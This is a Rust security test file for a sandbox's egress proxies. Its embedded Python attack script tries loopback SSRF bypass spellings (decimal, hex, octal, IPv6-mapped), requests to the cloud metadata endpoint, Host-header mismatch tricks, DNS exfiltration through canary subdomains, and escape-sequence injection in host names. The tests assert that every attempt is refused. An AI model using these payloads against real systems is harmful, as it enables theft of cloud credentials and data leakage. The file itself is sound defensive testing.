//! Egress layer: the proxies run in the host's network namespace, so every
//! way of naming the host's loopback or a link-local address (SSRF) must be
//! refused; a Host header cannot retarget a tunnel; DNS never asks upstream
//! (no exfiltration through lookups); control characters in refused names
//! never reach the terminal or the log raw.
//!
//! A host server on 127.0.0.1 greets every client with a canary and counts
//! connections: it must see none.

use crate::support::{Case, Expect, each_mode};
use std::io::Write;
use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

const DEFAULT_PROFILE: &str = include_str!("../../profiles/default.toml");

/// A host loopback server greeting with a canary; counts connections.
pub(crate) struct Loopback {
    pub(crate) port: u16,
    hits: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
}

impl Loopback {
    pub(crate) fn start(case: &mut Case) -> Loopback {
        Loopback::start_on(case, "127.0.0.1:0")
    }

    /// The same server on another host address (`0.0.0.0:0`: all of them).
    pub(crate) fn start_on(case: &mut Case, addr: &str) -> Loopback {
        let greeting = case.add_canary("loopsrv");
        let l = TcpListener::bind(addr).expect("bind the host server");
        l.set_nonblocking(true).expect("nonblocking");
        let port = l.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (h, s) = (hits.clone(), stop.clone());
        std::thread::spawn(move || {
            while !s.load(Ordering::SeqCst) {
                match l.accept() {
                    Ok((mut c, _)) => {
                        h.fetch_add(1, Ordering::SeqCst);
                        let _ =
                            c.write_all(format!("HTTP/1.0 200 OK\r\n\r\n{greeting}\n").as_bytes());
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        Loopback { port, hits, stop }
    }

    pub(crate) fn finish(self) -> usize {
        std::thread::sleep(Duration::from_millis(30));
        self.stop.store(true, Ordering::SeqCst);
        self.hits.load(Ordering::SeqCst)
    }
}

/// A name other than localhost that the host's /etc/hosts maps to a
/// loopback address (e.g. the machine's own name), if any.
fn host_loopback_name() -> Option<String> {
    let hosts = std::fs::read_to_string("/etc/hosts").ok()?;
    hosts.lines().find_map(|l| {
        let l = l.split('#').next()?;
        let mut it = l.split_whitespace();
        let addr = it.next()?;
        if !addr.starts_with("127.") {
            return None;
        }
        it.find(|n| !n.starts_with("localhost") && !n.contains("localhost") && n.len() > 1)
            .map(str::to_string)
    })
}

/// The default profile plus `web.guard.test` pinned to 127.0.0.1 on
/// `port`, with the private opt-in (an allowed destination on loopback).
pub(crate) fn profile(case: &Case, port: u16) -> PathBuf {
    let text = format!(
        "{DEFAULT_PROFILE}\n[network]\nallow = [ {{ host = \"web.guard.test:{port}\", private = true }} ]\n\n[network.hosts]\n\"web.guard.test\" = \"127.0.0.1\"\n"
    );
    case.write("egress-escape.toml", &text)
}

/// Run the snippet with extra guard args and `--log`; returns the outcome
/// and the event log.
pub(crate) fn run_logged(case: &Case, extra: &[&str]) -> (crate::common::Outcome, String) {
    let log = case.home().join("escape-events.jsonl");
    let _ = std::fs::remove_file(&log);
    let mut args = vec!["run", "--log", log.to_str().unwrap()];
    args.extend_from_slice(extra);
    args.extend_from_slice(&["--", "python3", "attack.py"]);
    let out = case.run(&args);
    out.ran();
    let text = std::fs::read_to_string(&log).unwrap_or_default();
    (out, text)
}

fn events(log: &str) -> Vec<serde_json::Value> {
    log.lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

#[track_caller]
pub(crate) fn assert_refused(log: &str, host: &str, why: &str) {
    assert!(
        events(log)
            .iter()
            .any(|e| e["host"] == host && e["decision"] == "refuse" && e["why"] == why),
        "no refuse event for {host} why={why}:\n{log}"
    );
}

pub(crate) const PROXY: &str = r#"
def proxy(req):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(req)
    d = b""
    while b"\r\n\r\n" not in d:
        c = s.recv(4096)
        if not c:
            break
        d += c
    # A tunnel that opened would now carry the server's greeting.
    if d.startswith(b"HTTP/1.1 200"):
        s.settimeout(3)
        try:
            d += s.recv(4096)
        except OSError:
            pass
    parts = d.split(b" ")
    return parts[1].decode() if len(parts) > 1 else "none"
def socks(host, port, atyp=3):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
    s.sendall(b"\x05\x01\x00")
    if s.recv(2) != b"\x05\x00":
        return "nomethod"
    if atyp == 3:
        s.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + struct.pack(">H", port))
    elif atyp == 1:
        s.sendall(b"\x05\x01\x00\x01" + socket.inet_aton(host.decode()) + struct.pack(">H", port))
    else:
        s.sendall(b"\x05\x01\x00\x04" + socket.inet_pton(socket.AF_INET6, host.decode()) + struct.pack(">H", port))
    r = s.recv(10)
    return r[1] if len(r) > 1 else "none"
def dns(name, qtype=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0" + struct.pack(">HH", qtype, 1)
    s.sendto(q, ("127.0.0.1", 53))
    try:
        r = s.recv(512)
    except OSError as e:
        return "errno-%d" % e.errno
    return "rcode=%d answers=%d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
"#;

/// SSRF: every spelling of the host's loopback and the metadata address,
/// through CONNECT, an absolute-URI request and SOCKS5 (domain, IPv4 and
/// IPv6 forms), is refused: 403 for names and canonical literals (ip-literal
/// or non-public-address), 400 for non-canonical IPv4 forms, SOCKS reply 2
/// (not allowed) or 1 (malformed). Allowing `localhost` and a name the
/// host's /etc/hosts maps to loopback does not help: the proxy checks the
/// address it resolved. The host server sees no connection.
#[test]
fn ssrf_through_the_proxies_is_refused() {
    each_mode(|mut case| {
        let srv = Loopback::start(&mut case);
        let p = srv.port;
        let alias = host_loopback_name();
        // (target, expected HTTP status)
        let mut targets: Vec<(String, &str)> = vec![
            (format!("127.0.0.1:{p}"), "403"),
            (format!("localhost:{p}"), "403"),
            (format!("[::1]:{p}"), "403"),
            (format!("[::ffff:127.0.0.1]:{p}"), "403"),
            (format!("127.1:{p}"), "400"),
            (format!("2130706433:{p}"), "400"),
            (format!("0x7f000001:{p}"), "400"),
            (format!("0177.0.0.1:{p}"), "400"),
            ("169.254.169.254:80".into(), "403"),
            ("127.77.0.5:80".into(), "403"),
            (format!("127.77.0.1:{p}"), "403"),
        ];
        if let Some(a) = &alias {
            targets.push((format!("{a}:{p}"), "403"));
        }
        let mut code = String::from(PROXY);
        for (i, (t, _)) in targets.iter().enumerate() {
            code.push_str(&format!(
                "out(\"connect{i}\", proxy(b\"CONNECT {t} HTTP/1.1\\r\\nHost: {t}\\r\\n\\r\\n\"))\n\
                 out(\"get{i}\", proxy(b\"GET http://{t}/latest/meta-data/ HTTP/1.1\\r\\nHost: {t}\\r\\nConnection: close\\r\\n\\r\\n\"))\n"
            ));
        }
        // SOCKS5: (label, python call, expected reply code)
        let mut socks: Vec<(String, String, &str)> = vec![
            (
                "localhost".into(),
                format!("socks(b\"localhost\", {p})"),
                "2",
            ),
            ("v4name".into(), format!("socks(b\"127.0.0.1\", {p})"), "2"),
            ("v4".into(), format!("socks(b\"127.0.0.1\", {p}, 1)"), "2"),
            ("v6".into(), format!("socks(b\"::1\", {p}, 4)"), "2"),
            ("short".into(), format!("socks(b\"127.1\", {p})"), "1"),
            (
                "decimal".into(),
                format!("socks(b\"2130706433\", {p})"),
                "1",
            ),
            ("hex".into(), format!("socks(b\"0x7f000001\", {p})"), "1"),
            (
                "metadata".into(),
                "socks(b\"169.254.169.254\", 80, 1)".into(),
                "2",
            ),
            (
                "fake".into(),
                format!("socks(b\"127.77.0.1\", {p}, 1)"),
                "2",
            ),
        ];
        if let Some(a) = &alias {
            socks.push(("alias".into(), format!("socks(b\"{a}\", {p})"), "2"));
        }
        for (l, call, _) in &socks {
            code.push_str(&format!("out(\"socks_{l}\", {call})\n"));
        }
        // The transparent listener: a 127.77.x.y address no allowed name
        // was given (the sandbox never resolved one).
        // (Transparent listeners serve the allowed ports.)
        code.push_str(&format!(
            r#"
c = socket.create_connection(("127.77.0.9", {p}), timeout=10)
c.sendall(b"GET /latest/meta-data/ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
try:
    r = c.recv(200)
except ConnectionResetError:
    r = b""
out("transparent", r.split(b" ")[1].decode() if r else "closed")
"#
        ));
        case.write_python(&code);
        let mut extra = vec![format!("--allow-host=localhost:{p}")];
        if let Some(a) = &alias {
            extra.push(format!("--allow-host={a}:{p}"));
        }
        let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
        let (out, log) = run_logged(&case, &extra);
        for (i, (t, want)) in targets.iter().enumerate() {
            assert_eq!(
                out.get(&format!("connect{i}")),
                *want,
                "CONNECT {t}\n{}",
                out.all()
            );
            assert_eq!(
                out.get(&format!("get{i}")),
                *want,
                "GET http://{t}/\n{}",
                out.all()
            );
        }
        for (l, _, want) in &socks {
            out.fields(&[(&format!("socks_{l}"), want)]);
        }
        // A non-HTTP port: the listener closes (or resets) without a byte.
        out.fields(&[("transparent", "closed")]);
        assert_refused(&log, "127.0.0.1", "ip-literal");
        assert_refused(&log, "[::1]", "ip-literal");
        assert_refused(&log, "169.254.169.254", "ip-literal");
        assert_refused(&log, "localhost", "non-public-address");
        if let Some(a) = &alias {
            assert_refused(&log, a, "non-public-address");
        }
        assert_refused(&log, "127.77.0.9", "unknown-address");
        assert_eq!(srv.finish(), 0, "the host loopback server was reached");
    });
}

/// A Host header that differs from the CONNECT target (either way round)
/// or from an absolute URI's host is refused (403 host-mismatch), even
/// when one of the two names is allowed. One naming the proxy itself on a
/// CONNECT is what npm's `tunnel-agent` sends: the tunnel is made.
#[test]
fn host_header_differing_from_the_target_is_refused() {
    each_mode(|mut case| {
        let srv = Loopback::start(&mut case);
        let p = srv.port;
        let prof = profile(&case, p);
        case.write_python(&format!(
            r#"{PROXY}
out("connect_allowed_host_evil", proxy(b"CONNECT web.guard.test:{p} HTTP/1.1\r\nHost: evil.guard.test:{p}\r\n\r\n"))
out("connect_evil_host_allowed", proxy(b"CONNECT evil.guard.test:{p} HTTP/1.1\r\nHost: web.guard.test:{p}\r\n\r\n"))
out("connect_allowed_host_loopback", proxy(b"CONNECT web.guard.test:{p} HTTP/1.1\r\nHost: 127.0.0.1:{p}\r\n\r\n"))
out("connect_allowed_host_proxy", proxy(b"CONNECT web.guard.test:{p} HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n"))
out("get_allowed_host_evil", proxy(b"GET http://web.guard.test:{p}/ HTTP/1.1\r\nHost: evil.guard.test:{p}\r\n\r\n"))
out("get_allowed_host_meta", proxy(b"GET http://web.guard.test:{p}/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"))
"#
        ));
        let (out, log) = run_logged(&case, &["-p", prof.to_str().unwrap()]);
        out.fields(&[
            ("connect_allowed_host_evil", "403"),
            ("connect_evil_host_allowed", "403"),
            ("connect_allowed_host_loopback", "403"),
            ("connect_allowed_host_proxy", "200"),
            ("get_allowed_host_evil", "403"),
            ("get_allowed_host_meta", "403"),
        ]);
        assert_refused(&log, "web.guard.test", "host-mismatch");
        assert_refused(&log, "evil.guard.test", "host-mismatch");
        assert_eq!(
            srv.finish(),
            1,
            "the host server was reached other than once"
        );
    });
}

/// DNS exfiltration: `<canary>.example.com` (A, AAAA, TXT, over guard's
/// resolver and through getaddrinfo) gets no answer, and the supervisor
/// makes no upstream lookup for it (no resolve event in the log).
#[test]
fn dns_exfiltration_makes_no_upstream_query() {
    each_mode(|case| {
        // Not a case canary: the log records the refused name on purpose.
        let label = crate::common::canary("dnsx").to_ascii_lowercase();
        let name = format!("{label}.example.com");
        case.write_python(&format!(
            r#"{PROXY}
n = b"{name}"
out("a", dns(n, 1))
out("aaaa", dns(n, 28))
out("txt", dns(n, 16))
out("sub", dns(b"part2." + n, 1))
try:
    socket.getaddrinfo(n.decode(), 443)
    out("gai", "resolved")
except socket.gaierror as e:
    out("gai", e.errno)
"#
        ));
        let (out, log) = run_logged(&case, &[]);
        out.fields(&[
            ("a", "rcode=3 answers=0"),
            ("aaaa", "rcode=3 answers=0"),
            ("txt", "rcode=3 answers=0"),
            ("sub", "rcode=3 answers=0"),
            ("gai", "-2"), // EAI_NONAME
        ]);
        let evs = events(&log);
        let about: Vec<_> = evs
            .iter()
            .filter(|e| e.to_string().to_ascii_lowercase().contains(&label))
            .collect();
        assert!(
            !about.is_empty(),
            "the refused lookup is not logged:\n{log}"
        );
        assert!(
            about
                .iter()
                .all(|e| e["upstream"] == false && e["event"] != "resolve"),
            "an upstream lookup was made: {about:?}"
        );
        assert!(
            !evs.iter().any(|e| e["event"] == "resolve"),
            "upstream lookups happened:\n{log}"
        );
    });
}

/// Control characters (ESC sequences, BEL) in a refused host name, through
/// CONNECT, an absolute URI, a Host header, SOCKS5, DNS and the
/// transparent listener, are refused and never reach the summary (stderr)
/// or the event log as raw bytes.
#[test]
fn control_characters_in_refused_names_are_not_echoed_raw() {
    each_mode(|case| {
        case.write_python(&format!(
            r#"{PROXY}
bad = b"ev\x1b[2J\x1b]0;pwn\x07il.test"
out("connect", proxy(b"CONNECT " + bad + b":443 HTTP/1.1\r\nHost: x\r\n\r\n"))
out("get", proxy(b"GET http://" + bad + b"/ HTTP/1.1\r\nHost: " + bad + b"\r\n\r\n"))
out("socks", socks(bad, 443))
out("dns", dns(bad))
c = socket.create_connection(("127.77.0.1", 80), timeout=10)
c.sendall(b"GET / HTTP/1.1\r\nHost: " + bad + b"\r\nConnection: close\r\n\r\n")
out("transparent", c.recv(200).split(b" ")[1].decode())
"#
        ));
        let log_path = case.home().join("escape-events.jsonl");
        // An allowed name, so the transparent listeners run.
        let (out, log) = run_logged(&case, &["--allow-host", "wanted.guard.test"]);
        out.fields(&[
            ("connect", "400"),
            ("get", "400"),
            ("socks", "1"),
            ("dns", "rcode=5 answers=0"),
            ("transparent", "403"),
        ]);
        let raw = std::fs::read(&log_path).unwrap_or_default();
        for (what, bytes) in [
            ("stderr", out.stderr.as_bytes()),
            ("event log", raw.as_slice()),
            ("event log text", log.as_bytes()),
        ] {
            assert!(
                !bytes.iter().any(|b| *b == 0x1b || *b == 0x07),
                "raw control bytes in the {what}:\n{}",
                String::from_utf8_lossy(bytes).escape_debug()
            );
        }
        // The session log under the home, too.
        let sessions = case.home().join(".local/state/guard/sessions");
        if let Ok(rd) = std::fs::read_dir(&sessions) {
            for e in rd.flatten() {
                let b = std::fs::read(e.path()).unwrap_or_default();
                assert!(
                    !b.iter().any(|b| *b == 0x1b || *b == 0x07),
                    "raw control bytes in {}",
                    e.path().display()
                );
            }
        }
    });
}

/// Hole: this machine's own address, and its LAN, when they are in a range
/// that looks public (this kind of machine has 192.0.2.2/24 on eth0, a
/// documentation range; a VPS has its public address; a laptop a global
/// IPv6 one). A name pinned (or resolving, through a wildcard rule over a
/// domain whose DNS the attacker controls) to it reached a host service
/// bound to all addresses through every proxy, without the `private` opt-in;
/// a neighbour on the same subnet was dialed too. Now both are refused as
/// non-public (403, SOCKS reply 2, refuse events) and the service sees no
/// connection.
#[test]
fn this_machines_own_address_and_lan_are_not_public() {
    let ip = crate::network::machine_ipv4();
    let o = ip.octets();
    // Another address on the machine's subnet (at least a /24 here).
    let neighbour = std::net::Ipv4Addr::new(o[0], o[1], o[2], if o[3] == 1 { 2 } else { 1 });
    each_mode(|mut case| {
        let srv = Loopback::start_on(&mut case, "0.0.0.0:0");
        let port = srv.port;
        // Control: the service answers on the machine's address from the host.
        let mut control = std::net::TcpStream::connect((ip, port)).expect("control connection");
        let mut got = String::new();
        std::io::Read::read_to_string(&mut control, &mut got).expect("control read");
        assert!(got.contains("200 OK"), "control: {got}");
        let prof = case.write(
            "own-address.toml",
            &format!(
                "{DEFAULT_PROFILE}\n[network]\nallow = [\"own.guard.test:{port}\", \"lan.guard.test:{port}\"]\n\n\
                 [network.hosts]\n\"own.guard.test\" = \"{ip}\"\n\"lan.guard.test\" = \"{neighbour}\"\n"
            ),
        );
        case.write_python(&format!(
            r#"{PROXY}
for name in (b"own", b"lan"):
    t = name + b".guard.test:{port}"
    out(name.decode() + "_connect", proxy(b"CONNECT " + t + b" HTTP/1.1\r\nHost: " + t + b"\r\n\r\n"))
    out(name.decode() + "_get", proxy(b"GET http://" + t + b"/ HTTP/1.1\r\nHost: " + t + b"\r\nConnection: close\r\n\r\n"))
    out(name.decode() + "_socks", socks(name + b".guard.test", {port}))
"#
        ));
        let (out, log) = run_logged(&case, &["-p", prof.to_str().unwrap()]);
        out.fields(&[
            ("own_connect", "403"),
            ("own_get", "403"),
            ("own_socks", "2"),
            ("lan_connect", "403"),
            ("lan_get", "403"),
            ("lan_socks", "2"),
        ]);
        assert_refused(&log, "own.guard.test", "non-public-address");
        assert_refused(&log, "lan.guard.test", "non-public-address");
        assert_eq!(
            srv.finish(),
            1,
            "the service was reached from the sandbox (1 is the control)"
        );
        case.assert_no_leak(&out);
    });
}
